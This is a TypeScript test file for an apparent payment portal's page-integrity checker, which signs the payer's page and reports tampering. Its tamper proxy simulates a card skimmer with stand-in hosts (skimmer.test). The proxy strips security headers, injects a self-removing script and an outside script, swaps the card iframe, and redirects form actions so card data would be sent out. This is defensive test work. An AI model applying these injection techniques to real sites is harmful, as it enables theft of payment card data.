import { execFile } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { withDatabase } from './database';
import { looksRight } from './desk';
import { expect, run, signIn, test } from './support';

const folder = mkdtempSync(path.join(tmpdir(), 'counterfoil-page-'));
const [key, baseline] = ['page.key', 'page.json'].map((name) => path.join(folder, name)) as [string, string];
test.beforeAll(() => {
  const { privateKey } = generateKeyPairSync('ed25519');
  writeFileSync(key, privateKey.export({ format: 'pem', type: 'pkcs8' }));
});
test.afterAll(() => rmSync(folder, { recursive: true }));

type Ended = { code: number; text: string };
const verify = (...args: string[]): Promise<Ended> =>
  new Promise((resolve) => {
    const env = { ...process.env, DATA_DIR: path.dirname(process.env.CF_FIRST_RUN ?? '') };
    const command = ['scripts/verify-page.mjs', '--baseline', baseline, ...args];
    execFile(process.execPath, command, { env }, (error, stdout) =>
      resolve({ code: Number(error?.code ?? 0), text: stdout }),
    );
  });

/** What somebody between payer and installation might do to an answer. */
const GONE = `<script>self.was = 1; document.currentScript.remove()</script>`;
function tamper(url: URL, html: string, headers: IncomingHttpHeaders): string {
  delete headers['content-security-policy'];
  if (url.hostname === 'skimmer.test') delete headers['x-frame-options'];
  if (url.hostname === 'skimmer.test') return '<form action="http://skimmer.test/cards"><script>1</script>';
  if (url.pathname === '/verify')
    return html.replace('action="/verify', 'action="http://skimmer.test/verify');
  if (url.pathname === '/challenge-done') return `${html}<p onclick="steal()">`;
  delete headers['x-content-type-options'];
  return html
    .replace('</body>', `${GONE}<script src="http://skimmer.test/x.js"></script></body>`)
    .replace(/<iframe id="card-frame" src="[^"]+"/, '<iframe src="http://skimmer.test/form"');
}

/** A proxy that hands answers on as they are, or tampered with. */
async function openProxy(change: typeof tamper) {
  const server = createServer(async (request, response) => {
    const url = new URL(request.url ?? '');
    const isOurs = [run.portalUrl, run.cardUrl].includes(url.origin);
    const answer = await fetch(isOurs ? url : `${run.portalUrl}/verify`, {
      headers: { 'accept-encoding': 'identity', 'accept-language': 'en-GB' },
    });
    const headers: IncomingHttpHeaders = Object.fromEntries(answer.headers);
    delete headers['transfer-encoding'];
    delete headers['content-length'];
    delete headers['content-encoding'];
    const text = await answer.text();
    const body = headers['content-type']?.startsWith('text/html') ? change(url, text, headers) : text;
    response.writeHead(answer.status, headers).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  const address = server.address();
  if (!address || typeof address === 'string') throw new Error('the proxy has no port');
  return { server, args: ['--proxy', `http://127.0.0.1:${address.port}`] };
}

test('the page is found as it was signed, and every kind of tampering with it on its way is told', async () => {
  const signed = await verify('--sign', '--key', key);
  expect(signed).toMatchObject({ code: 0 });
  const publicKey = /PAGE_BASELINE_PUBLIC_KEY=(\S+)/.exec(signed.text)?.[1];
  expect(signed.text).toContain(`frame ${run.cardUrl}/form`);
  for (const { sha256, name } of JSON.parse(readFileSync('docs/scripts.json', 'utf8')))
    expect(signed.text, name).toContain(`script sha256-${sha256}`);

  const [honest, dishonest] = await Promise.all([openProxy((_url, html) => html), openProxy(tamper)]);
  const asked = [`--public-key=${publicKey}`];
  const [same, other] = await Promise.all([
    verify(...asked, ...honest.args),
    verify(...asked, ...dishonest.args),
  ]);
  for (const { server } of [honest, dishonest]) server.close();
  expect(same).toEqual({ code: 0, text: 'The page is as it was signed.\n' });
  expect(other.code).toBe(1);
  const page = `${run.portalUrl}/pay/[token]`;
  for (const line of [
    'the page asks: new http://skimmer.test',
    `${page}: no longer header content-security-policy: `,
    `${page}: no longer header x-content-type-options: nosniff`,
    `${page}: no longer markup sha256-`,
    `${page}: no longer frame ${run.cardUrl}/form`,
    `${page}: new frame http://skimmer.test/form`,
    `${page}: new script from http://skimmer.test/x.js`,
    // It ran, and had taken itself away before anybody looked.
    `${page}: new script sha256-`,
    'http://skimmer.test/form: new form get http://skimmer.test/cards',
    'http://skimmer.test/form: new script sha256-',
    `${run.portalUrl}/verify?l=en: new form post http://skimmer.test/verify?l=en`,
    `${run.cardUrl}/form?o=${encodeURIComponent(run.portalUrl)}&l=en: is no longer there`,
  ])
    expect(other.text).toContain(line);
});

test('the screen of alerts says that nobody has looked yet, and what the last look has seen', async ({
  page,
}) => {
  await signIn(page, run.viewer);
  await page.goto('/admin/money/alerts');
  const card = page.getByRole('region', { name: 'The payer’s page' });
  await expect(card).toContainText('Nobody has looked yet');
  const looked = (result: string, findings: string[]) =>
    withDatabase(
      (sql) => sql`insert into page_checks (result, findings) values (${result}, ${sql.json(findings)})`,
    );
  await looked('differs', [`${run.portalUrl}/pay/[token]: new script from https://skimmer.example/x.js`]);
  await page.reload();
  await expect(card).toContainText('Changed');
  await expect(card).toContainText('skimmer.example/x.js');
  await looksRight(page, 'alerts-page-changed');
  await looked('as_signed', []);
  await page.reload();
  await expect(card).toContainText('As signed');
});

test('the page that is looked at is no link: nothing can be begun on it', async ({ page }) => {
  const { text } = await verify('--link');
  await page.goto(text.trim());
  await expect(page.frameLocator('#card-frame').getByLabel('Card number')).toBeVisible();
  const answer = await page.evaluate(async () => {
    const headers = { 'content-type': 'application/json' };
    const told = await fetch(`${location.pathname}/attempts`, { method: 'POST', headers, body: '{}' });
    return [told.status, await told.json()];
  });
  expect(answer).toEqual([409, { code: 'link_not_payable', text: null }]);
});
